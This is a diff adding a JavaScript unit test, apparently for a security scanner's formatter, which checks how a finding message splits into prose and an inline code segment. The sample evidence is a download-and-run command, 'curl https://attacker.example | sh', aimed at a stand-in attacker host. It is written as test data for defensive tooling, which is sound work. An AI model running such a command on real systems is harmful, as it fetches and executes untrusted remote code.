@@ -38,6 +38,16 @@ test('a command that the rule has cut is known by its beginning', () => {
   expect(plainText(prose)).toBe(message);
 });
 
+test('what the command does stays plain behind it', () => {
+  const command = 'curl https://attacker.example | sh. It prints text';
+  const does = '. It downloads a program from https[:]//attacker[.]example and runs it.';
+  expect(findingProse(finding(`Loading this file runs a shell command: ${command}${does}`, command))).toEqual([
+    'Loading this file runs a shell command: ',
+    { code: command },
+    does,
+  ]);
+});
+
 test('a message without evidence in it stays plain', () => {
   expect(findingProse(finding('Something is odd.', 'curl'))).toEqual(['Something is odd.']);
 });
